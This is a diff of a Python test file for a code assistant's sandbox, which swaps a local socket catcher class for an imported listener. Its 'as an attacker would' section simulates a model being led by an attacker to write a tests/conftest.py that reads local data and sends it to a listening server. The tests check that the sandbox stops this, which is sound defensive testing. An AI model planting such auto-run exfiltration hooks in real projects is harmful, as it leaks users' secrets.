@@ -10,9 +10,7 @@ from __future__ import annotations
 
 import json
 import shutil
-import socket
 import sys
-import threading
 from pathlib import Path
 
 import pytest
@@ -21,7 +19,7 @@ from code_assistant import redact
 from code_assistant.verify import landlock
 from code_assistant.verify.environment import held_back_reason, without_secrets
 from code_assistant.verify.outputs_common import NotRunCause, network_not_run
-from tests.repos import CALC_PY, TEST_CALC_PY, answer, create, modify, python_repo, run_cli
+from tests.repos import CALC_PY, TEST_CALC_PY, Listener, answer, create, modify, python_repo, run_cli
 from tests.scripted_server import ScriptedServer
 
 PYTEST = f"{sys.executable} -m pytest -q -p no:cacheprovider"
@@ -100,32 +98,6 @@ def test_a_network_failure_in_a_failed_run_names_network(output: str) -> None:
 
 
 # ----- as an attacker would -------------------------------------------------------------------------------------
-class Catcher:
-    """A server on 127.0.0.1, outside every sandbox, that keeps whatever reaches it."""
-
-    def __init__(self) -> None:
-        self.listener = socket.create_server(("127.0.0.1", 0))
-        self.port = self.listener.getsockname()[1]
-        self.received: list[bytes] = []
-        threading.Thread(target=self._serve, daemon=True).start()
-
-    def _serve(self) -> None:
-        while True:
-            try:
-                connection, _ = self.listener.accept()
-            except OSError:
-                return
-            with connection:
-                connection.settimeout(5)
-                try:
-                    self.received.append(connection.recv(65536))
-                except OSError:
-                    self.received.append(b"")
-
-    def close(self) -> None:
-        self.listener.close()
-
-
 def _conftest(port: int) -> str:
     """What the attacker's line made the model write: read what it can, send it home, print it where it shows."""
     return f'''import json, os, socket
@@ -204,7 +176,7 @@ def _attack(tmp_path: Path, home: Path, *, loopback: bool, env: dict[str, str]) 
     if loopback:
         files["tests/test_loopback.py"] = LOOPBACK_TEST
     repo = python_repo(tmp_path, files)
-    catcher = Catcher()
+    catcher = Listener()
     try:
         hostile = answer(create("tests/conftest.py", _conftest(catcher.port)))
         fix = answer(modify("calc.py", "    return a - b", "    return a + b"))
@@ -218,7 +190,7 @@ def _attack(tmp_path: Path, home: Path, *, loopback: bool, env: dict[str, str]) 
     return proc, server, catcher
 
 
-def _assert_nothing_left_home(proc, server, catcher: Catcher, backend: str) -> None:  # noqa: ANN001
+def _assert_nothing_left_home(proc, server, catcher: Listener, backend: str) -> None:  # noqa: ANN001
     assert proc.returncode == 0, proc.stdout + proc.stderr
     result = json.loads(proc.stdout)
     assert result["sandbox"]["backend"] == backend and result["sandbox"]["network"] is False
